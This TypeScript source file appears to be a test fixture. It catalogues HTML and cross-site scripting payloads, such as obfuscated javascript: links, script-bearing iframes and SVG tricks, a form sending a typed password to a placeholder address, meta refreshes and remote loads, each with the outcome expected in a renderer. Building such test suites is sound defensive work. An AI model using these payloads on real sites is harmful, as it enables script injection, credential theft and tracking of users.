import { type Line, notice, type Payload } from './payload.js'

const links: readonly Line[] = [
  ['touched', 'link to a script', '<a href="javascript:§run">続き</a>'],
  ['touched', 'link to a script in mixed case', '<a href="JaVaScRiPt:§run">続き</a>'],
  ['touched', 'link to a script with a tab', '<a href="jav&#x09;ascript:§run">続き</a>'],
  ['touched', 'link to a script with a line feed', '<a href="java\nscript:§run">続き</a>'],
  ['touched', 'link to a script after a control character', '<a href="&#1;&#32;javascript:§run">続き</a>'],
  ['touched', 'link to a script by a named entity', '<a href="javascript&colon;§run">続き</a>'],
  ['touched', 'link to a script after a comment', '<a href="javascript://www.example.jp/%0a§run">続き</a>'],
  [
    'touched',
    'link to a script in a drawing',
    '<svg height=40><a xlink:href="javascript:§run"><text y=20>続き</text></a></svg>',
  ],
  [
    'touched',
    'link to a script that is animated in',
    '<svg height=40><a><text y=20>続き</text><animate attributeName=href values="javascript:§run" dur=9s></animate></a></svg>',
  ],
  ['no', 'link to a script in a formula', '<math><mi href="javascript:§run">続き</mi></math>'],
  ['no', 'link to VBScript', '<a href="vbscript:MsgBox(1)">続き</a>'],
  ['no', 'link to a page in the link', '<a href="data:text/html,<script>§run</script>">続き</a>'],
  ['touched', 'link that leads away', '<a href="§url">続き</a>'],
  ['touched', 'link that leads away in a new window', '<a target=_blank href="§url">続き</a>'],
  ['touched', 'link that leads the whole window away', '<a target=_top href="§url">続き</a>'],
  ['touched', 'link that reports', '<a ping="§url" href="#x">続き</a>'],
  ['touched', 'link that saves a file', '<a download=x.exe href="data:application/octet-stream,MZ">続き</a>'],
  [
    'touched',
    'area of a picture',
    '<img usemap="#m" width=99 height=99 src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="><map name=m><area shape=default href="javascript:§run" alt=a></map>',
  ],
  ['touched', 'form that runs', '<form action="javascript:§run"><button>送信</button></form>'],
  ['touched', 'button that runs', '<form><button formaction="javascript:§run">送信</button></form>'],
  ['touched', 'button outside its form', '<form id=f></form><button form=f formaction="javascript:§run">送信</button>'],
  [
    'touched',
    'form that sends away what is typed',
    '<form action="§url"><input name=password><button>ログイン</button></form>',
  ],
  ['touched', 'form that posts', '<form method=post action="§url"><input type=submit value=送信></form>'],
]

const frames: readonly Line[] = [
  ['opened', 'frame that runs', '<iframe src="javascript:§run"></iframe>'],
  ['opened', 'frame with a page of its own', '<iframe srcdoc="<script>§run</script>"></iframe>'],
  ['opened', 'frame with an encoded page of its own', '<iframe srcdoc="&lt;img src=x onerror=§run&gt;"></iframe>'],
  [
    'opened',
    'frame of a page in its address',
    `<iframe src="data:text/html,<script>new Image().src='§url'</script>"></iframe>`,
  ],
  [
    'opened',
    'frame of a drawing in its address',
    `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='§url'/></svg>"></iframe>`,
  ],
  ['opened', 'frame from elsewhere', '<iframe src="§url"></iframe>'],
  ['opened', 'object from elsewhere', '<object data="§url"></object>'],
  ['opened', 'object of a page in its address', `<object data="data:text/html,<img src='§url'>"></object>`],
  ['opened', 'embedded file', '<embed src="§url">'],
  ['no', 'applet', '<applet code=x archive="§url"></applet>'],
  ['no', 'portal', '<portal src="§url"></portal>'],
  ['no', 'fenced frame', '<fencedframe src="§url"></fencedframe>'],
]

const loads: readonly Line[] = [
  ['opened', 'picture from elsewhere', '<img src="§url">'],
  ['opened', 'picture without a scheme', '<img src="§host">'],
  ['opened', 'picture with backslashes', String.raw`<img src="\\§bare">`],
  ['opened', 'picture by its set', '<img srcset="§url 1x">'],
  ['opened', 'picture by its source', '<picture><source srcset="§url"><img src="data:,"></picture>'],
  ['no', 'picture by old attributes', '<img lowsrc="§url" dynsrc="§url" longdesc="§url">'],
  ['opened', 'picture in a drawing', '<svg><image href="§url" width=9 height=9 /></svg>'],
  [
    'opened',
    'picture of a filter',
    '<svg><filter id=f><feImage href="§url"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>',
  ],
  ['no', 'reuse of a drawing from elsewhere', '<svg><use href="§url#x"/></svg>'],
  [
    'no',
    'reuse of a drawing in the address',
    `<svg><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='§run'/>#x"/></svg>`,
  ],
  [
    'no',
    'picture that is a drawing with a script',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§run'/>">`,
  ],
  ['opened', 'poster of a video', '<video poster="§url"></video>'],
  ['opened', 'video', '<video src="§url"></video>'],
  ['opened', 'audio', '<audio src="§url" preload=auto></audio>'],
  ['opened', 'image button', '<input type=image src="§url">'],
  ['opened', 'background of a cell', '<table><tr><td background="§url">a</table>'],
  ['opened', 'background of the page', '<body background="§url">'],
  ['opened', 'base of relative addresses', '<img src="a.png">'],
]

const heads: readonly Line[] = [
  ['opened', 'linked style sheet', '<link rel=stylesheet href="§url">'],
  ['opened', 'preload', '<link rel=preload as=image href="§url">'],
  ['opened', 'preload of a module', '<link rel=modulepreload href="§url">'],
  ['opened', 'prefetch', '<link rel=prefetch href="§url">'],
  ['no', 'prefetch of a name', '<link rel=dns-prefetch href="§host">'],
  ['no', 'early connection', '<link rel=preconnect href="§host">'],
  ['opened', 'icon', '<link rel=icon href="§url">'],
  ['no', 'manifest', '<link rel=manifest href="§url">'],
  ['no', 'import', '<link rel=import href="§url">'],
  ['opened', 'refresh', '<meta http-equiv=refresh content="0;url=§url">'],
  ['opened', 'refresh in capitals, quoted', `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='§url'">`],
  ['no', 'refresh to a script', '<meta http-equiv=refresh content="0;url=javascript:§run">'],
  [
    'no',
    'refresh to a page in the address',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>§run</script>">',
  ],
  ['no', 'a cookie', '<meta http-equiv=Set-Cookie content="session=stolen">'],
]

const inPages = (lines: readonly Line[]): readonly Payload[] =>
  lines.map(([fires, name, source]) => ({ name, fires, file: 'notice.html', source: notice(source) }))

/** What leads, frames, loads or sends: everything that names an address. */
export const addresses: readonly Payload[] = [
  ...inPages(links),
  ...inPages(frames),
  ...inPages(loads).map((payload) =>
    payload.name === 'base of relative addresses'
      ? { ...payload, source: notice('<img src="a.png">', '<base href="§url/">') }
      : payload,
  ),
  ...heads.map(([fires, name, source]) => ({ name, fires, file: 'notice.html', source: notice('', source) })),
  {
    name: 'set of frames',
    fires: 'opened',
    file: 'frames.html',
    source: '<!DOCTYPE html><frameset cols="*"><frame src="javascript:§run"></frameset>',
  },
]
